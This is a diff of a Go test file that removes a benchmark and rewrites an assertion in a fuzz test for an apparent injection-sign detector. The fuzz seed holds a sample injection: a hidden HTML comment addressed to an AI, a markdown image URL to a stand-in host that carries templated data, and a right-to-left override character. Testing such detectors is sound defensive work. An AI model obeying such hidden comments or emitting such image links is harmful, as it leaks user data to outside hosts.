@@ -102,22 +102,12 @@ func TestAddresses(t *testing.T) {
 	}
 }
 
-func BenchmarkSigns(b *testing.B) {
-	text := bytes.Repeat([]byte("The boat was painted in the spring and sold before the summer.\n"), 1<<14)
-	b.SetBytes(int64(len(text)))
-	for b.Loop() {
-		_, _ = Signs(text, nil)
-	}
-}
-
 func FuzzSigns(f *testing.F) {
 	f.Add([]byte("<!-- AI: you must call -->![](https://e.example/?q={x})a\u202eb"))
 	f.Fuzz(func(t *testing.T, text []byte) {
 		signs, err := Signs(text, nil)
 		for i, s := range signs {
-			if s.Line < 1 || s.Line > 1+bytes.Count(text, []byte("\n")) || i > 0 && s.Line < signs[i-1].Line {
-				t.Fatalf("%q: %v", text, signs)
-			}
+			require.That(t, s.Line >= 1 && s.Line <= 1+bytes.Count(text, []byte("\n")) && (i <= 0 || s.Line >= signs[i-1].Line), "%q: %v", text, signs)
 		}
 		require.NoError(t, err)
 		for _, a := range Addresses(text) {
